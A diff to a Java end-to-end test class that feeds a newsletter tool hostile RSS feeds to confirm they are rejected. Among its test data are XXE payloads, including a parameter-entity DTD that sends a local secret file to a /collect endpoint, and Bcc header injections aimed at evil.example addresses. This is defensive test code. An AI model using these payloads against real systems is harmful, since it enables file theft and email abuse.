@@ -13,14 +13,11 @@ import java.util.Map;
 import java.util.UUID;
 import java.util.stream.Stream;
 
-import com.icegreen.greenmail.junit5.GreenMailExtension;
-import com.icegreen.greenmail.util.ServerSetupTest;
 import com.jayway.jsonpath.JsonPath;
 import jakarta.mail.Header;
 import jakarta.mail.internet.MimeMessage;
 import org.jsoup.Jsoup;
 import org.jsoup.nodes.Element;
-import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
@@ -38,31 +35,20 @@ import static org.assertj.core.api.Assertions.assertThat;
  */
 class HostileFeedsEndToEndTests {
 
-	private static final Path FIXTURES = Path.of("src/test/resources/fixtures");
+	private static final Path FIXTURES = EndToEnd.fixture("");
 
 	@RegisterExtension
-	static GreenMailExtension smtp = new GreenMailExtension(ServerSetupTest.SMTP.dynamicPort());
-
-	@TempDir
-	Path dataDir;
+	final EndToEnd e2e = EndToEnd.serving(FIXTURES.resolve("planet/march-20/feeds"));
 
 	@TempDir
 	Path elsewhere;
-
-	FeedServer feeds;
 
 	String secret;
 
 	@BeforeEach
 	void start() throws IOException {
-		feeds = new FeedServer(FIXTURES.resolve("planet/march-20/feeds"));
 		secret = "local-secret-" + UUID.randomUUID();
 		Files.writeString(elsewhere.resolve("secret.txt"), secret);
-	}
-
-	@AfterEach
-	void stop() {
-		feeds.close();
 	}
 
 	@Test
@@ -74,18 +60,16 @@ class HostileFeedsEndToEndTests {
 					"application/rss+xml"));
 		}
 		writeOpml(urls);
-		Files.writeString(dataDir.resolve("subscribers.csv"),
+		Files.writeString(e2e.dataDir().resolve("subscribers.csv"),
 				"email,name\nada@example.org,Ada\nmallory@example.org,\"Mal\u2028Bcc: name@evil.example\"\n");
 		Path templates = Files.createDirectories(elsewhere.resolve("templates"));
 		// an operator's subject template that puts feed text and a line break into the Subject
 		Files.writeString(templates.resolve("subject.ftl"), "${issue.title}: <#list issue.sources as s>"
 				+ "<#if s.name?starts_with('Hostile')><#list s.entries as e>${e.title} / </#list></#if></#list>"
 				+ "\nBcc: template@evil.example\n");
-		var cli = new Cli(dataDir).with("spring.mail.host", "127.0.0.1")
-			.with("spring.mail.port", smtp.getSmtp().getPort())
-			.with("newsletter.fetch.timeout", "2s")
+		var cli = e2e.cli().with("newsletter.fetch.timeout", "2s")
 			.with("newsletter.templates-dir", templates);
-		assertThat(cli.run("subscribers", "import", dataDir.resolve("subscribers.csv").toString()).exitCode()).isZero();
+		assertThat(cli.run("subscribers", "import", e2e.dataDir().resolve("subscribers.csv").toString()).exitCode()).isZero();
 
 		var run = cli.run("run", "--cutoff=2026-03-21T00:00:00Z");
 
@@ -94,15 +78,15 @@ class HostileFeedsEndToEndTests {
 				"29 entries eligible from 17 sources", "send: 2/2 messages");
 		bad.forEach((url, reason) -> assertThat(run.out()).as(run.toString())
 			.containsPattern("failed: .*\\(" + java.util.regex.Pattern.quote(url) + "\\): .*" + reason));
-		MimeMessage[] received = smtp.getReceivedMessages();
+		MimeMessage[] received = e2e.smtp().getReceivedMessages();
 		assertThat(received).as("one copy per SMTP recipient: an injected Bcc would add one").hasSize(2);
 		for (MimeMessage message : received) {
 			assertHeadersAreSafe(message);
 			assertDigestIsCleanAndComplete(WeeklyDigestEndToEndTests.part(message, "text/html"));
 		}
-		Path archive = dataDir.resolve("archive/2026-03-21/index.html");
+		Path archive = e2e.dataDir().resolve("archive/2026-03-21/index.html");
 		assertDigestIsCleanAndComplete(Files.readString(archive));
-		assertThat(feeds.requests()).extracting(FeedServer.Request::path).doesNotContain("/evil.dtd", "/collect");
+		assertThat(e2e.feeds().requests()).extracting(FeedServer.Request::path).doesNotContain("/evil.dtd", "/collect");
 		assertNoLocalFileLeaked(received, run);
 	}
 
@@ -116,9 +100,9 @@ class HostileFeedsEndToEndTests {
 	void deeplyNestedFeedsFailAloneInARun() throws Exception {
 		List<String> deep = serveDeepFeeds(20_000);
 		writeGoodFeedsAnd(deep);
-		Files.writeString(dataDir.resolve("subscribers.csv"), "email,name\nada@example.org,Ada\n");
-		var cli = new Cli(dataDir).with("spring.mail.host", "127.0.0.1").with("spring.mail.port", smtp.getSmtp().getPort());
-		assertThat(cli.run("subscribers", "import", dataDir.resolve("subscribers.csv").toString()).exitCode()).isZero();
+		Files.writeString(e2e.dataDir().resolve("subscribers.csv"), "email,name\nada@example.org,Ada\n");
+		var cli = e2e.cli();
+		assertThat(cli.run("subscribers", "import", e2e.dataDir().resolve("subscribers.csv").toString()).exitCode()).isZero();
 
 		var run = cli.run("run", "--cutoff=2026-03-21T00:00:00Z");
 
@@ -126,7 +110,7 @@ class HostileFeedsEndToEndTests {
 		assertThat(run.out()).as(run.toString()).contains("fetch: 3/5 feeds ok, 2 failed", "3 entries eligible from 3 sources");
 		deep.forEach(url -> assertThat(run.out()).as(run.toString())
 			.containsPattern("failed: .*\\(" + java.util.regex.Pattern.quote(url) + "\\): nested deeper than 256 elements"));
-		assertThat(Jsoup.parse(WeeklyDigestEndToEndTests.part(smtp.getReceivedMessages()[0], "text/html"))
+		assertThat(Jsoup.parse(WeeklyDigestEndToEndTests.part(e2e.smtp().getReceivedMessages()[0], "text/html"))
 			.select("td.source h2").eachText()).containsExactly("Ari Lamstein", "Marcos Dione", "Mike Driscoll");
 	}
 
@@ -137,7 +121,7 @@ class HostileFeedsEndToEndTests {
 		List<String> deep = serveDeepFeeds(20_000);
 		writeGoodFeedsAnd(deep);
 
-		var check = new Cli(dataDir).run("feeds", "check");
+		var check = e2e.cli().run("feeds", "check");
 
 		assertThat(check.exitCode()).as(check.toString()).isEqualTo(1);
 		assertThat(check.out()).as(check.toString()).contains("3/5 feeds ok")
@@ -160,7 +144,7 @@ class HostileFeedsEndToEndTests {
 		List<String> deep = serveDeepFeeds(10_000);
 		writeGoodFeedsAnd(deep);
 
-		var check = new Cli(dataDir).with("newsletter.fetch.max-depth", 1_000_000)
+		var check = e2e.cli().with("newsletter.fetch.max-depth", 1_000_000)
 			.with("newsletter.fetch.timeout", "5s")
 			.run("feeds", "check");
 
@@ -194,10 +178,10 @@ class HostileFeedsEndToEndTests {
 		for (String good : List.of("Ari Lamstein:ari-lamstein", "Marcos Dione:marcos-dione", "Mike Driscoll:mike-driscoll")) {
 			String[] nameAndFile = good.split(":");
 			opml.append("<outline text=\"").append(nameAndFile[0]).append("\" xmlUrl=\"")
-				.append(feeds.url("/feeds/" + nameAndFile[1] + ".xml")).append("\"/>\n");
+				.append(e2e.feeds().url("/feeds/" + nameAndFile[1] + ".xml")).append("\"/>\n");
 		}
 		others.forEach(url -> opml.append("<outline xmlUrl=\"").append(xml(url)).append("\"/>\n"));
-		Files.writeString(dataDir.resolve("feeds.opml"), opml.append("</body></opml>\n"));
+		Files.writeString(e2e.dataDir().resolve("feeds.opml"), opml.append("</body></opml>\n"));
 	}
 
 	/** The bad feeds by URL, each with (a pattern of) the reason the summary must give. */
@@ -209,24 +193,24 @@ class HostileFeedsEndToEndTests {
 		bad.put(serveFixture("truncated.xml"), "malformed XML");
 		bad.put(serve("/hostile/not-a-feed.html", Files.readAllBytes(FIXTURES.resolve("hostile/not-a-feed.html")),
 				"text/html; charset=utf-8"), "not a feed \\(an HTML page\\); it advertises the feed "
-						+ java.util.regex.Pattern.quote(feeds.url("/feed.xml")));
+						+ java.util.regex.Pattern.quote(e2e.feeds().url("/feed.xml")));
 		String secretUrl = elsewhere.resolve("secret.txt").toUri().toString();
 		bad.put(serve("/xxe-general.xml", feed("<!DOCTYPE rss [<!ENTITY s SYSTEM \"" + secretUrl + "\">]>", "&s;"),
 				"application/rss+xml"), rejected);
 		serve("/collect", new byte[0], "text/plain");
 		serve("/evil.dtd", ("<!ENTITY % file SYSTEM \"" + secretUrl + "\"><!ENTITY % all \"<!ENTITY send SYSTEM '"
-				+ feeds.url("/collect") + "?%file;'>\"> %all;").getBytes(StandardCharsets.UTF_8), "application/xml-dtd");
-		bad.put(serve("/xxe-parameter.xml", feed("<!DOCTYPE rss [<!ENTITY % dtd SYSTEM \"" + feeds.url("/evil.dtd")
+				+ e2e.feeds().url("/collect") + "?%file;'>\"> %all;").getBytes(StandardCharsets.UTF_8), "application/xml-dtd");
+		bad.put(serve("/xxe-parameter.xml", feed("<!DOCTYPE rss [<!ENTITY % dtd SYSTEM \"" + e2e.feeds().url("/evil.dtd")
 				+ "\"> %dtd;]>", "&send;"), "application/rss+xml"), rejected);
-		feeds.handle("/trickle.xml", FeedServer.trickle());
-		bad.put(feeds.url("/trickle.xml"), "timed out");
-		feeds.handle("/huge.xml", FeedServer.zeros(50));
-		bad.put(feeds.url("/huge.xml"), "larger than the limit of 10485760 bytes");
-		feeds.handle("/loop.xml", exchange -> {
+		e2e.feeds().handle("/trickle.xml", FeedServer.trickle());
+		bad.put(e2e.feeds().url("/trickle.xml"), "timed out");
+		e2e.feeds().handle("/huge.xml", FeedServer.zeros(50));
+		bad.put(e2e.feeds().url("/huge.xml"), "larger than the limit of 10485760 bytes");
+		e2e.feeds().handle("/loop.xml", exchange -> {
 			exchange.getResponseHeaders().set("Location", "/loop.xml");
 			exchange.sendResponseHeaders(302, -1);
 		});
-		bad.put(feeds.url("/loop.xml"), "more than 5 redirects");
+		bad.put(e2e.feeds().url("/loop.xml"), "more than 5 redirects");
 		bad.put("ftp://127.0.0.1/feed.xml", "unsupported URL scheme 'ftp'");
 		return bad;
 	}
@@ -282,7 +266,7 @@ class HostileFeedsEndToEndTests {
 			outputs.add(WeeklyDigestEndToEndTests.part(message, "text/html"));
 		}
 		List<String> stored = new ArrayList<>();
-		try (Stream<Path> files = Files.walk(dataDir)) {
+		try (Stream<Path> files = Files.walk(e2e.dataDir())) {
 			for (Path file : files.filter(Files::isRegularFile).toList()) {
 				byte[] bytes = Files.readAllBytes(file);
 				stored.add(new String(bytes, StandardCharsets.ISO_8859_1));
@@ -311,12 +295,12 @@ class HostileFeedsEndToEndTests {
 	}
 
 	private String serve(String path, byte[] body, String contentType) {
-		feeds.handle(path, exchange -> {
+		e2e.feeds().handle(path, exchange -> {
 			exchange.getResponseHeaders().set("Content-Type", contentType);
 			exchange.sendResponseHeaders(200, body.length);
 			exchange.getResponseBody().write(body);
 		});
-		return feeds.url(path);
+		return e2e.feeds().url(path);
 	}
 
 	/** The Planet feeds with their names (from the manifest), then the others, nameless: their own titles show. */
@@ -326,10 +310,10 @@ class HostileFeedsEndToEndTests {
 			var opml = new StringBuilder("<opml version=\"2.0\"><body>\n");
 			for (Map<String, Object> feed : manifest) {
 				opml.append("<outline text=\"").append(xml((String) feed.get("source"))).append("\" xmlUrl=\"")
-					.append(feeds.url("/feeds/" + ((String) feed.get("file")).replace("feeds/", ""))).append("\"/>\n");
+					.append(e2e.feeds().url("/feeds/" + ((String) feed.get("file")).replace("feeds/", ""))).append("\"/>\n");
 			}
 			others.forEach(url -> opml.append("<outline xmlUrl=\"").append(xml(url)).append("\"/>\n"));
-			Files.writeString(dataDir.resolve("feeds.opml"), opml.append("</body></opml>\n"));
+			Files.writeString(e2e.dataDir().resolve("feeds.opml"), opml.append("</body></opml>\n"));
 		}
 		catch (IOException ex) {
 			throw new UncheckedIOException(ex);
